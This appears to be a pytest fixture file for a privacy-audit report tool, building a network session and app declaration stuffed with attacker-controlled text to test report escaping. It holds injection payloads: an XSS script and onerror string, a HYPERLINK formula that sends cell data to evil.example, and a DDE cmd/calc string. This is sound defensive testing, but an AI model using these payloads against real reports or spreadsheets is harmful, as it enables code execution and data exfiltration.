"""A session full of attacker-controlled text, compared and turned into report data."""

from __future__ import annotations

import pytest

from flowaudit.core.compare import SessionView, compare
from flowaudit.core.declarations import load_declaration
from flowaudit.core.model import Attribution, Detection, Marker, Observation
from flowaudit.core.pipeline import Analysis
from flowaudit.reports import build_report

XSS = '"><script>alert(1)</script><img src=x onerror=alert(2)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def hostile_view() -> SessionView:
    gdt = Attribution("tencent-gdt", FORMULA, f"优量汇{XSS}", f"Tencent {XSS}", "advertising", "test")
    analyses = [
        Analysis(Observation(ts=100.0, host="mi.gdt.qq.com", method="GET", scheme="https", tls=True,
                             path=f"/gdt_mview.fcg/{XSS}", query="x=" + XSS, headers=[("X-Evil", XSS)], id=1),
                 gdt, [Detection("imei", "query", f"ext.{XSS}", "query>json", 0.99, "luhn", FORMULA, "h1"),
                       Detection("oaid", "query", "@SUM(1+1)", "query", 0.9, "key", "+cmd|' /C calc'!A0", "h2")]),
        Analysis(Observation(ts=101.0, host="collect.evil.example", method="POST", scheme="http", tls=False,
                             path="/=cmd", id=2),
                 None, [Detection("phone_number", "body", "-2+3", "body>form", 0.95, "regex", "138****5678", "h3")]),
        Analysis(Observation(ts=130.0, host="dl.evil.example", method="GET", scheme="https", tls=True,
                             path=f"/{XSS}.apk", status=200,
                             response_headers=[("Content-Type", "application/vnd.android.package-archive")],
                             response_head=b"PK\x03\x04AndroidManifest.xml", id=3), None, []),
    ]
    return SessionView(name=f"s{XSS}", app_id="com.example.x", analyses=analyses,
                       markers=[Marker(ts=120.0, kind="consent", label=XSS)], first_party_domains=["example.cn"],
                       device_profile_types=["imei"], sources=["har"])


def hostile_declaration():
    return load_declaration({"app": {"name": f"App {XSS}", "package": "com.example.x", "category": "天气"},
                             "pi_list": [{"type": FORMULA}],
                             "sdk_list": [{"name": f"SDK {XSS}", "vendor": FORMULA}]})


@pytest.fixture
def hostile_report():
    def build(lang: str = "zh"):
        view, decl = hostile_view(), hostile_declaration()
        findings = compare(view, decl)
        return build_report(view, findings, decl, None, lang=lang, declaration_source=f"d{XSS}.yaml")
    return build


@pytest.fixture
def hostile_inputs():
    return hostile_view(), hostile_declaration()
